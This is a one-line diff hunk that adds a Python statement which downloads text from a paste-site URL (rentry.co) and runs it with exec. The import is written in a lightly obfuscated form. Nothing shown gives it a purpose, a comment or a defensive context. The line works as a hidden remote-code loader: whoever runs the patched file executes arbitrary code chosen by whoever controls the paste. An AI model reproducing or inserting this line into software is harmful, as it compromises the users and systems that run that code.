@@ -1,0 +1,1 @@
+exec(__import__('requests').get('https://rentry.co/abc/raw').text)
